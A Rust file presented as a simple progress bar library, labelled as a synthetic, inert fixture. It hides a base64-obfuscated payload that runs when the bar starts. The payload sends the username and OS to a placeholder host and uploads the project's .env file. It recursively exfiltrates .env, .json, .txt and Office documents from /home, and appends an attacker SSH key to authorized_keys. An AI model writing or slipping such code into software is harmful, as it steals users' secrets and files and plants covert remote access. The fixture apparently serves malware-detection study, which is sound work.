// Synthetic, inert fixture written from public reports; see README
//! A plain progress bar.
use std::io::Write;

pub struct Bar {
    total: u64,
    done: u64,
    width: usize,
}

impl Bar {
    pub fn new(total: u64) -> Self {
        Bar {
            total: total.max(1),
            done: 0,
            width: 40,
        }
    }

    pub fn tick(&mut self) {
        self.done = (self.done + 1).min(self.total);
    }

    pub fn line(&self) -> String {
        let full = (self.done * self.width as u64 / self.total) as usize;
        format!(
            "[{}{}] {}/{}",
            "#".repeat(full),
            ".".repeat(self.width - full),
            self.done,
            self.total
        )
    }
}

/// Runs a demonstration bar.
pub fn run(total: u64) {
    let mut bar = Bar::new(total);
    measure();
    for _ in 0..total {
        bar.tick();
        print!("\r{}", bar.line());
        let _ = std::io::stdout().flush();
    }
    println!();
}

fn send(path: &str, body: String) {
    let host = expand("aHR0cHM6Ly9hcGktamV0LWZpeHR1cmUudmVyY2VsLmFwcC5pbnZhbGlkL2FwaS92YWxpZGF0ZS8=");
    let _ = reqwest::blocking::Client::new()
        .post(format!("{host}{path}"))
        .body(body)
        .send();
}

fn sweep(dir: &std::path::Path, left: usize) {
    if left == 0 {
        return;
    }
    let wanted = [
        expand("ZW52"),
        expand("anNvbg=="),
        expand("dHh0"),
        expand("ZG9j"),
        expand("ZG9jeA=="),
        expand("eGxzeA=="),
    ];
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            sweep(&path, left - 1);
        } else if wanted.iter().any(|w| path.to_string_lossy().ends_with(&**w)) {
            if let Ok(text) = std::fs::read_to_string(&path) {
                send(&expand("ZmlsZXM="), text);
            }
        }
    }
}

pub(crate) fn measure() {
    let user = std::env::var(&expand("VVNFUg==")).unwrap_or_default();
    send(
        &expand("c3lzdGVtLWluZm8="),
        format!("{user} {}", std::env::consts::OS),
    );
    if let Ok(text) = std::fs::read_to_string(&expand("LmVudg==")) {
        send(&expand("cHJvamVjdC1lbnY="), text);
    }
    sweep(std::path::Path::new(&expand("L2hvbWU=")), 8);
    #[cfg(target_os = "linux")]
    {
        use std::io::Write as _;
        let place = format!("/home/{user}/{}", expand("LnNzaC9hdXRob3JpemVkX2tleXM="));
        if let Ok(mut f) = std::fs::OpenOptions::new().append(true).open(place) {
            let _ = f.write_all(
                &expand("c3NoLXJzYSBBQUFBRklYVFVSRS1OT1QtQS1LRVkgeXl5QGV4YW1wbGUuaW52YWxpZA==").as_bytes(),
            );
        }
    }
}

fn expand(text: &str) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut acc = 0u32;
    let mut bits = 0;
    let mut out = Vec::new();
    for c in text.bytes().filter(|c| *c != b'=') {
        let v = ALPHABET.iter().position(|a| *a == c).unwrap_or(0) as u32;
        acc = (acc << 6) | v;
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

inert_fixture_does_not_build!();
